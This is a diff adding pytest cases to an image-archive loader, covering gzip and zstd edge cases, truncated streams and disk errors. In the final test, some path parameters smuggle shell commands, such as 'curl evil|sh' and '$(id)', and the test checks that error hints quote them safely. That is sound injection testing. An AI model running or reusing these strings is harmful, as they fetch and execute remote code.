@@ -5,7 +5,9 @@ import gzip
 import io
 import lzma
 import os
+import shlex
 import sys
+import tempfile
 import threading
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager, suppress
@@ -16,7 +18,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from imgload.errors import ArchiveInvalid, UsageError
+from imgload.errors import ArchiveInvalid, SourceError, UsageError
 from imgload.sources.streams import CHUNK, FileChunks, chunks_of, open_archive
 from tests.unit.archives import Image, docker20, pack
 from tests.unit.bounds import memory_below, within
@@ -251,3 +253,122 @@ def test_a_pipe_with_a_path_is_read_more_than_once(data: bytes) -> None:
     with pipe_of(data) as pipe, open_archive(f"/dev/fd/{pipe.fileno()}") as file:
         for scanning in (True, False):
             assert b"".join(chunks_of(file, scanning=scanning)) == ARCHIVE
+
+
+class Metered(io.BytesIO):
+    """A file that counts what is read of it."""
+
+    taken = 0
+
+    def read(self, size: int | None = -1) -> bytes:
+        data = super().read(size)
+        self.taken += len(data)
+        return data
+
+
+@pytest.mark.parametrize("form", SQUEEZED)
+@pytest.mark.parametrize("content", [b"", b"x"])
+def test_parts_with_no_content_are_bounded(form: str, content: bytes) -> None:
+    """Each costs time; 100 MB of empty gzip members took minutes."""
+    file = Metered(SQUEEZED[form](content) * 200_000)
+    with pytest.raises(ArchiveInvalid, match="almost no content"):
+        for _ in chunks_of(file, scanning=True):
+            pass
+    assert file.taken <= 2 * CHUNK
+
+
+@pytest.mark.parametrize("form", SQUEEZED)
+@pytest.mark.parametrize("size", [600, 4096, 60_000])
+def test_an_archive_of_many_parts_is_whole(form: str, size: int) -> None:
+    """bgzip and pzstd write such: blocks of some KiB, and an empty one at the end."""
+    data = os.urandom(1 << 20) * (12 if size == 600 else 2)
+    parts = [SQUEEZED[form](data[at : at + size]) for at in range(0, len(data), size)]
+    assert read(b"".join([*parts, SQUEEZED[form](b"")])) == data
+
+
+@pytest.mark.parametrize("padding", [0, 1, 511, CHUNK, 3 * CHUNK + 1])
+def test_zeros_between_and_behind_gzip_members_are_passed_over(padding: int) -> None:
+    """Tapes and some tools pad to whole blocks."""
+    member = gzip.compress(ARCHIVE)
+    assert read((member + bytes(padding)) * 2) == 2 * ARCHIVE
+
+
+def in_window(log: int, size: int) -> bytes:
+    options: dict[int, int] = {
+        zstd.CompressionParameter.window_log: log,
+        zstd.CompressionParameter.compression_level: 1,
+        zstd.CompressionParameter.content_size_flag: 0,
+    }
+    compressor = zstd.ZstdCompressor(options=options)
+    parts = [compressor.compress(bytes(size)), compressor.flush()]
+    return b"".join(parts)
+
+
+@pytest.mark.parametrize("log", [17, 23, 27])
+def test_a_zstd_window_up_to_128_mib_is_taken(log: int) -> None:
+    """`zstd --long` writes the largest, and `zstd -d` takes it without being asked."""
+    assert read(in_window(log, 100_000)) == bytes(100_000)
+
+
+def test_a_larger_zstd_window_is_refused_with_the_way_around() -> None:
+    """It is the memory that reading takes; `zstd -d` wants --long for it, too."""
+    with pytest.raises(ArchiveInvalid, match="128 MiB") as caught:
+        read(in_window(28, 100_000))
+    assert "zstd -d --long=31" in caught.value.hint
+
+
+def test_zstd_frames_without_content_are_skipped() -> None:
+    """Skippable frames (RFC 8878, 3.1.2), as pzstd writes before each of its own."""
+    skippable = b"\x50\x2a\x4d\x18\x04\x00\x00\x00abcd"
+    packed = zstd.compress(ARCHIVE)
+    assert read(packed + skippable + packed) == 2 * ARCHIVE
+
+
+@pytest.mark.parametrize("form", SQUEEZED)
+@pytest.mark.parametrize("lacking", [1, 5, 20])
+def test_a_stream_that_is_cut_off_is_refused(form: str, lacking: int) -> None:
+    """Also where only the checksum is lacking."""
+    with pytest.raises(ArchiveInvalid):
+        read(SQUEEZED[form](ARCHIVE)[:-lacking])
+
+
+@pytest.mark.skipif(not Path("/dev/full").exists(), reason="it is a device of Linux")
+@pytest.mark.parametrize("size", [1, CHUNK + 4096])
+def test_a_full_disk_is_an_error_of_ours_whenever_it_shows(
+    monkeypatch: pytest.MonkeyPatch, size: int
+) -> None:
+    """The last bytes of a piped archive are written when the file is flushed."""
+    monkeypatch.setattr(tempfile, "TemporaryFile", lambda: Path("/dev/full").open("w+b"))  # noqa: SIM115
+    reading, writing = os.pipe()
+    writer = threading.Thread(target=_write, args=(writing, size))
+    writer.start()
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(os.fdopen(reading, "rb")))
+    with pytest.raises(SourceError) as caught:
+        open_archive("-")
+    sys.stdin.close()
+    writer.join()
+    assert "No space left" in caught.value.message
+    assert caught.value.hint
+
+
+def _write(descriptor: int, size: int) -> None:
+    with suppress(BrokenPipeError), os.fdopen(descriptor, "wb") as pipe:
+        pipe.write(bytes(size))
+
+
+def test_no_temporary_folder_is_an_error_of_ours(monkeypatch: pytest.MonkeyPatch) -> None:
+    """It is looked for when a pipe has to be kept."""
+    reading, writing = os.pipe()
+    os.close(writing)
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(os.fdopen(reading, "rb")))
+    monkeypatch.setattr(tempfile, "tempdir", "/nonexistent")
+    with pytest.raises(SourceError):
+        open_archive("-")
+
+
+@pytest.mark.parametrize("path", ["a\0b", "nosuch; curl evil|sh #.tar", "no such/$(id)"])
+def test_a_path_that_cannot_be_opened_is_quoted_in_the_hint(path: str) -> None:
+    """The hint is a command to paste."""
+    with pytest.raises(UsageError) as caught:
+        open_archive(path)
+    assert shlex.split(caught.value.hint.replace("\N{REPLACEMENT CHARACTER}", "\0"))[-1] == path
